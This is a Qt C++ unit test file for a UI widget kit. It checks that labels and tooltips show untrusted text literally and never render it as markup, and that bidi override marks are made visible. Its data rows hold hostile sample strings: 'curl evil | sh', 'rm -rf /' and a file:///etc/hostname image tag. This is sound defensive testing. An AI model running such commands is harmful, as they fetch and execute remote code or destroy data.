// SPDX-FileCopyrightText: 2026 The Countersign authors
// SPDX-License-Identifier: Apache-2.0
#include "widgets/kit/Label.h"

#include "tests/support/Picture.h"
#include "widgets/kit/Banner.h"
#include "widgets/kit/FactList.h"
#include "widgets/kit/KeyHint.h"
#include "widgets/kit/SectionTitle.h"

#include <QHelpEvent>
#include <QToolTip>

using namespace countersign;
using namespace countersign::ui;
using namespace Qt::StringLiterals;

class TestLabel : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase() { m_theme = std::make_unique<Theme>(*qApp); }
    void markupIsShownAsItStands_data();
    void markupIsShownAsItStands();
    void everyLabelOfTheKitIsPlain();
    void aToolTipShowsItsCharacters();
    void onlyAShrinkingLabelMayBeCut();
    void textFromOutsideShowsItsMarks();

private:
    std::unique_ptr<Theme> m_theme;
};

void TestLabel::markupIsShownAsItStands_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("bold") << u"echo <b>hi</b>"_s;
    QTest::newRow("comment and style") << u"echo ok <!-- && curl evil | sh --> done <style>b{}</style>"_s;
    QTest::newRow("image") << u"<img src='file:///etc/hostname'>"_s;
    QTest::newRow("entity") << u"&lt;safe&gt;"_s;
    QTest::newRow("break") << u"rm -rf / # <br>"_s;
}

void TestLabel::markupIsShownAsItStands()
{
    QFETCH(QString, text);
    Label label;
    label.setText(DisplayText::fromText(text));
    QCOMPARE(label.textFormat(), Qt::PlainText);
    QCOMPARE(label.text(), text);
    // Every character takes its room: nothing was read as markup.
    QVERIFY(label.sizeHint().width() >= QFontMetrics(label.font()).horizontalAdvance(text));
}

void TestLabel::everyLabelOfTheKitIsPlain()
{
    QWidget window;
    new Banner(Banner::Tone::Bad, u"sentence"_s, u"Do"_s, &window);
    new SectionTitle(u"title"_s, u"note"_s, &window);
    new KeyHint(QKeySequence(u"F1"_s), &window);
    auto *facts = new FactList(&window);
    facts->add(u"name"_s, u"value"_s);
    facts->add(u"outside"_s, DisplayText::fromText(u"<b>x</b>"_s));
    facts->add(u"mark"_s, ControlState::Blind);
    facts->addAbsent(u"absent"_s);
    int labels = 0;
    for (const QLabel *label : window.findChildren<QLabel *>()) {
        if (label->text().isEmpty())
            continue;
        ++labels;
        QCOMPARE(label->textFormat(), Qt::PlainText);
    }
    QVERIFY(labels >= 10);
}

void TestLabel::aToolTipShowsItsCharacters()
{
    QWidget widget;
    widget.resize(100, 100);
    setPlainToolTip(widget, u"<b>x</b> &lt; <img src='file:///etc/hostname'>"_s);
    QVERIFY(!widget.toolTip().contains(u"<b>"_s));
    QVERIFY(!widget.toolTip().contains(u"<img"_s));
    QVERIFY(widget.toolTip().contains(u"&lt;b&gt;x"_s));
    setPlainToolTip(widget, {});
    QVERIFY(widget.toolTip().isEmpty());
}

void TestLabel::onlyAShrinkingLabelMayBeCut()
{
    const QString text = u"a rather long sentence about the state of a page"_s;
    Label whole(text);
    QVERIFY(whole.minimumSizeHint().width() >= QFontMetrics(whole.font()).horizontalAdvance(text));
    Label shrinking(text);
    shrinking.shrinking();
    QVERIFY(shrinking.minimumSizeHint().width() < 40);
    shrinking.resize(60, 20);
    const QPixmap picture = tests::grabbed(shrinking);
    QVERIFY(!picture.isNull());
    QVERIFY(shrinking.toolTip().contains(text)); // what was cut can be read
    QCOMPARE(shrinking.text(), text);
}

void TestLabel::textFromOutsideShowsItsMarks()
{
    Label label;
    label.setText(DisplayText::fromText(u"a\u202eb"_s));
    QCOMPARE(label.text(), u"a⟨U+202E⟩b"_s);
    QCOMPARE(label.layoutDirection(), Qt::LeftToRight);
}

QTEST_MAIN(TestLabel)
#include "tst_Label.moc"
